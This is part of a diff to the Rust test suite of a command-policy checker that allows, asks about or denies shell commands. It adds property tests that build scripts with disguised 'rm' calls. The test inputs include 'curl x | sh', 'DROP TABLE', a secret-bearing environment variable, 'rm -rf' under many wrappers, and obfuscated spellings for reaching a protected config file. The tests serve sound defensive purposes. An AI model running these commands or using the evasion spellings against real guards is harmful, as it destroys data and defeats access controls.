+        assert_eq!(
+            decide_with(&p, json!({"argv": ["make"]}), &[("CC", "clang")]).rule(),
+            "rules[1]"
+        );
+        assert!(is_deny(&decide_with(&p, git, &[("AWS_SECRET", "x")])));
+    }
+
+    #[test]
+    fn stdin_matcher_searches_stdin() {
+        let p = policy(
+            "[defaults]\nact = \"allow\"\n[[rules]]\nstdin = \"DROP TABLE\"\ndecision = \"deny\"\n",
+        );
+        assert!(is_deny(&decide(
+            &p,
+            json!({"argv": ["psql"], "stdin": "x; DROP TABLE users"})
+        )));
+        assert_eq!(
+            decide(&p, json!({"argv": ["psql"], "stdin": "select 1"})).rule(),
+            "defaults.act"
+        );
+        assert_eq!(decide(&p, json!({"argv": ["psql"]})).rule(), "defaults.act");
     }
 
     #[test]
@@ -401,41 +1045,158 @@ mod tests {
             decision = "ask"
             "#,
         );
-        assert!(matches!(
-            decide(&p, json!({"script": "curl x | sh"}), Risk::Act),
-            Decision::Deny { .. }
-        ));
-        assert_eq!(
-            decide(&p, json!({"argv": ["make"]}), Risk::Act).rule(),
-            "rules[1]"
-        );
-        assert_eq!(
-            decide(&p, json!({"argv": ["ls"]}), Risk::Act).rule(),
-            "defaults.act"
-        );
+        assert!(is_deny(&decide(&p, json!({"script": "curl x | sh"}))));
+        assert_eq!(decide(&p, json!({"argv": ["make"]})).rule(), "rules[1]");
+        assert_eq!(decide(&p, json!({"argv": ["ls"]})).rule(), "defaults.act");
     }
 
     #[test]
-    fn protected_paths_are_denied_whatever_the_rules() {
+    fn protected_paths_are_denied_however_spelled() {
         let p = policy("[[rules]]\ndecision = \"allow\"\n");
-        let d = decide(
-            &p,
-            json!({"script": "echo x >> /home/me/.config/computer/config.toml"}),
-            Risk::Act,
+        for script in [
+            "echo x >> /home/me/.config/computer/config.toml",
+            "cat /home/me//.config/computer/config.toml",
+            "cat /home/me/.config/x/../computer/config.toml",
+            "cat ~/.config/computer/config.toml",
+            "cat \"$HOME/.config/computer/config.toml\"",
+            "cat /home/me/.config/computer/config.tom?",
+            "rm -rf /home/me/.conf*/comp*",
+            "cat /home/me/$D/computer/config.toml",
+            "dd if=/home/me/.config/computer/config.toml",
+            "cat ../home/me/.config/computer/config.toml",
+        ] {
+            assert_eq!(
+                decide(&p, json!({"script": script})).rule(),
+                "builtin:protected-path",
+                "{script}"
+            );
+        }
+        assert_eq!(
+            decide_with(
+                &p,
+                json!({"script": "cat \"$F\""}),
+                &[("F", "/home/me/.config/computer/config.toml")]
+            )
+            .rule(),
+            "builtin:protected-path"
         );
-        assert_eq!(d.rule(), "builtin:protected-path");
+        for script in [
+            "cat /home/me/.config/other.toml",
+            // A glob's `*` does not match the leading dot of `.config`.
+            "ls /home/me/*/computer",
+        ] {
+            assert_eq!(
+                decide(&p, json!({"script": script})).rule(),
+                "rules[0]",
+                "{script}"
+            );
+        }
     }
 
     #[test]
     fn bad_regex_fails_at_load() {
-        #[derive(Deserialize, Debug)]
-        #[allow(dead_code)]
-        struct Doc {
-            rules: Vec<Rule>,
-        }
         let err =
-            toml::from_str::<Doc>("[[rules]]\nregex = \"(\"\ndecision = \"deny\"\n").unwrap_err();
-        assert!(err.to_string().contains("invalid regex"), "{err}");
-        assert!(err.to_string().contains("line 2"), "{err}");
+            crate::config::Config::parse("[[rules]]\nregex = \"(\"\ndecision = \"deny\"\n", "c")
+                .unwrap_err()
+                .to_string();
+        assert!(err.contains("invalid regex"), "{err}");
+        assert!(err.contains("line 2"), "{err}");
+    }
+
+    #[test]
+    fn the_loader_list_is_overridable() {
+        let p = policy(
+            "[policy]\nloader_env = [\"MY_*\"]\n[[rules]]\nargv0 = [\"ls\"]\ndecision = \"allow\"\n",
+        );
+        let ls = json!({"argv": ["ls"]});
+        assert_eq!(
+            decide_with(&p, ls.clone(), &[("PATH", "/x")]).rule(),
+            "rules[0]"
+        );
+        assert_eq!(
+            decide_with(&p, ls, &[("MY_HOOK", "x")]).rule(),
+            "defaults.act"
+        );
+    }
+
+    mod generated {
+        use super::*;
+        use proptest::prelude::*;
+
+        /// Simple commands, some of them `rm` under a disguise the parser must see through.
+        fn command() -> impl Strategy<Value = (String, bool)> {
+            let plain = prop::sample::select(vec![
+                "ls -l",
+                "echo hi",
+                "true",
+                "cat f",
+                "git status",
+                "printf '%s' x",
+                "wc -l",
+            ])
+            .prop_map(|c| (c.to_string(), false));
+            let removing = prop::sample::select(vec![
+                "rm -rf victim",
+                "/bin/rm x",
+                "\\rm x",
+                "'rm' x",
+                "env A=1 rm x",
+                "nice rm x",
+                "timeout 5 rm x",
+                "sudo rm x",
+                "command rm x",
+                "sh -c 'rm x'",
+                "bash -c \"rm x\"",
+                "echo $(rm x)",
+                "xargs rm",
+                "find . -exec rm {} +",
+            ])
+            .prop_map(|c| (c.to_string(), true));
+            prop_oneof![3 => plain, 1 => removing]
+        }
+
+        /// A script built from commands joined the ways a shell joins them.
+        fn script() -> impl Strategy<Value = (String, bool)> {
+            let joiner = prop::sample::select(vec!["; ", " && ", " || ", " | ", "\n", " & "]);
+            (
+                prop::collection::vec(command(), 1..6),
+                prop::collection::vec(joiner, 6),
+                0..4usize,
+            )
+                .prop_map(|(commands, joiners, wrap)| {
+                    let mut text = String::new();
+                    let mut any_rm = false;
+                    for (i, (command, removes)) in commands.iter().enumerate() {
+                        if i > 0 {
+                            text.push_str(joiners[i % joiners.len()]);
+                        }
+                        text.push_str(command);
+                        any_rm |= removes;
+                    }
+                    let text = match wrap {
+                        1 => format!("( {text} )"),
+                        2 => format!("if true; then {text}\nfi"),
+                        3 => format!("#comment\n{{ {text}\n}}"),
+                        _ => text,
+                    };
+                    (text, any_rm)
+                })
+        }
+
+        proptest! {
+            #![proptest_config(ProptestConfig::with_cases(256))]
+            #[test]
+            fn any_denied_command_denies_the_script((text, any_rm) in script()) {
+                let p = policy(
+                    "[defaults]\nact = \"allow\"\n[[rules]]\nsurface = \"shell\"\ndecision = \"allow\"\n[[rules]]\nargv0 = [\"rm\"]\ndecision = \"deny\"\n",
+                );
+                let decision = decide(&p, json!({"script": text}));
+                if any_rm {
+                    prop_assert!(is_deny(&decision), "{text}: {decision:?}");
+                } else {
+                    prop_assert!(!is_deny(&decision), "{text}: {decision:?}");
+                }
+            }
+        }
     }
 }
